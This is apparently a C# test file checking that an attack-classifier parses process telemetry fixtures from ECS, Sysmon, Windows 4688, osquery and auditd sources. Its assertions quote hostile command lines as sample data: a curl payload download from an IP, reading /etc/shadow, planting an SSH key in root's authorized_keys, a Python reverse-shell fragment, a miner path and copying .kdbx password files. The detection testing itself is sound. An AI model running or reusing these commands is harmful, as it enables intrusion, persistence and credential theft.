using System.Text.Json;
using AttackClassifier.Telemetry;

namespace AttackClassifier.Tests.Telemetry;

/// <summary>
/// Each fixture in Fixtures/Telemetry (written by make_fixtures.py around plain command lines, encoded by each source's
/// rules) must give back exactly the records in its .expected.jsonl: the command put in, the errors, the carried ids.
/// </summary>
public class TelemetryFixtureTests
{
    internal static string FixturePath(string name) => Path.Combine(AppContext.BaseDirectory, "Fixtures", "Telemetry", name);

    [Theory]
    [InlineData("ecs-process.ndjson", TelemetryFormat.Ecs, 5)]
    [InlineData("sysmon-winlogbeat.ndjson", TelemetryFormat.Sysmon, 3)]
    [InlineData("sysmon-export.ndjson", TelemetryFormat.Sysmon, 3)]
    [InlineData("win4688-winlogbeat.ndjson", TelemetryFormat.Win4688, 3)]
    [InlineData("osquery-process-events.ndjson", TelemetryFormat.Osquery, 2)]
    [InlineData("osquery-processes-batch.ndjson", TelemetryFormat.Osquery, 4)]
    [InlineData("audit.log", TelemetryFormat.Auditd, 5)]
    public void Fixture_gives_the_expected_records(string name, TelemetryFormat format, int count)
    {
        using FileStream stream = File.OpenRead(FixturePath(name));
        List<TelemetryRecord> records = [.. TelemetryReader.Read(stream, new TelemetryReaderOptions { Format = format })];
        List<JsonElement> expected = [.. File.ReadLines(FixturePath(name + ".expected.jsonl")).Select(l => JsonDocument.Parse(l).RootElement)];
        Assert.Equal(count, expected.Count);   // the fixture still holds what this test was written against
        Assert.Equal(expected.Count, records.Count);
        for (int i = 0; i < records.Count; i++)
        {
            JsonElement e = expected[i];
            TelemetryRecord r = records[i];
            string at = $"{name} record {i}";
            Assert.True(e.GetProperty("line").GetInt64() == r.LineNumber, $"{at}: line {r.LineNumber}");
            Assert.True(Text(e, "command") == r.CommandLine, $"{at}: command '{r.CommandLine}'");
            Assert.True(e.GetProperty("truncated").GetBoolean() == r.Truncated, $"{at}: truncated {r.Truncated}");
            if (Text(e, "error") is { } error) Assert.True(r.Error?.Contains(error, StringComparison.Ordinal) == true, $"{at}: error '{r.Error}'");
            else Assert.True(r.Error is null, $"{at}: unexpected error '{r.Error}'");
            AssertField(at, e, "eventId", r.EventId);
            AssertField(at, e, "host", r.Host);
            AssertField(at, e, "user", r.User);
            AssertField(at, e, "timestamp", r.Timestamp);
            AssertField(at, e, "processId", r.ProcessId);
            AssertField(at, e, "parentProcessId", r.ParentProcessId);
            AssertField(at, e, "executable", r.Executable);
            AssertField(at, e, "workingDirectory", r.WorkingDirectory);
            AssertField(at, e, "userId", r.UserId);
            AssertField(at, e, "auditUserId", r.AuditUserId);
            AssertField(at, e, "session", r.Session);
            AssertField(at, e, "terminal", r.Terminal);
            AssertField(at, e, "auditSerial", r.AuditSerial);
            Assert.Equal(format != TelemetryFormat.Auditd, r.Original.HasValue);
        }
    }

    private static string? Text(JsonElement e, string name) =>
        e.TryGetProperty(name, out JsonElement v) && v.ValueKind == JsonValueKind.String ? v.GetString() : null;

    // A field the expectation leaves out must be absent from the record too: nothing is invented.
    private static void AssertField(string at, JsonElement e, string name, string? actual) =>
        Assert.True(Text(e, name) == actual, $"{at}: {name} is '{actual}', expected '{Text(e, name)}'");

    [Fact]
    public void Ecs_fixture_commands_are_the_plain_lines_put_in()
    {
        List<TelemetryRecord> records = Read("ecs-process.ndjson", TelemetryFormat.Ecs);
        Assert.Equal("curl -fsSL http://203.0.113.45:8080/stage2.sh -o /tmp/.X11-unix/.s", records[0].CommandLine);
        // Auditbeat gives only process.args: joined with shell quoting where an argument needs it
        Assert.Equal("bash -c 'cat /etc/shadow > /dev/shm/.sh'", records[2].CommandLine);
        Assert.Equal("sh -c 'echo '\"'\"'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOp7 kali'\"'\"' >> /root/.ssh/authorized_keys'", records[3].CommandLine);
        Assert.Equal("nohup /tmp/.cache/kworker -c /tmp/.cache/config.json", records[4].CommandLine);   // dotted keys
    }

    [Fact]
    public void Win4688_without_a_command_line_falls_back_to_the_image()
    {
        List<TelemetryRecord> records = Read("win4688-winlogbeat.ndjson", TelemetryFormat.Win4688);
        Assert.Equal("net.exe user svc_backup P@ssw0rd!2024 /add /domain", records[0].CommandLine);
        Assert.Equal(@"C:\Windows\System32\whoami.exe", records[2].CommandLine);
        Assert.Equal(("0x1c08", "0x12f4", @"CORP\alice"), (records[2].ProcessId, records[2].ParentProcessId, records[2].User));
    }

    [Fact]
    public void Osquery_batch_rows_become_event_format_originals()
    {
        List<TelemetryRecord> records = Read("osquery-processes-batch.ndjson", TelemetryFormat.Osquery);
        JsonElement original = records[1].Original!.Value;
        Assert.Equal("added", original.GetProperty("action").GetString());
        Assert.Equal("/tmp/.x/xmrig", original.GetProperty("columns").GetProperty("path").GetString());
        Assert.Equal("processes", original.GetProperty("name").GetString());
        Assert.False(original.TryGetProperty("diffResults", out _));
        Assert.True(records[1].TryGetField("decorations.host_uuid", out JsonElement uuid));
        Assert.Equal("4C4C4544-0042-3610-8052-B4C04F4E3732", uuid.GetString());
        Assert.Equal("snapshot", records[2].Original!.Value.GetProperty("action").GetString());
    }

    [Fact]
    public void Auditd_fixture_prefers_execve_over_the_cut_proctitle()
    {
        List<TelemetryRecord> records = Read("audit.log", TelemetryFormat.Auditd);
        string reverseShell = records[1].CommandLine!;
        Assert.True(reverseShell.Length > 128, reverseShell);
        Assert.False(records[1].Truncated);
        Assert.StartsWith("python3 -c import socket,os,pty;", reverseShell, StringComparison.Ordinal);
        Assert.EndsWith("pty.spawn(\"/bin/bash\")", reverseShell, StringComparison.Ordinal);
        // The connect() event has only the kernel's 128-byte PROCTITLE: used, and flagged.
        Assert.True(records[2].Truncated);
        Assert.Equal(128, records[2].CommandLine!.Length);
        Assert.StartsWith(reverseShell[..100], records[2].CommandLine, StringComparison.Ordinal);
        // The argument split over several EXECVE records comes back whole (about 8,000 bytes of base64).
        Assert.True(records[3].CommandLine!.Length > 8000);
        Assert.Equal("find /home/alice/My Documents -name *.kdbx -exec cp {} /tmp/.out/ ;", records[4].CommandLine);
    }

    private static List<TelemetryRecord> Read(string name, TelemetryFormat format)
    {
        using FileStream stream = File.OpenRead(FixturePath(name));
        return [.. TelemetryReader.Read(stream, new TelemetryReaderOptions { Format = format })];
    }
}
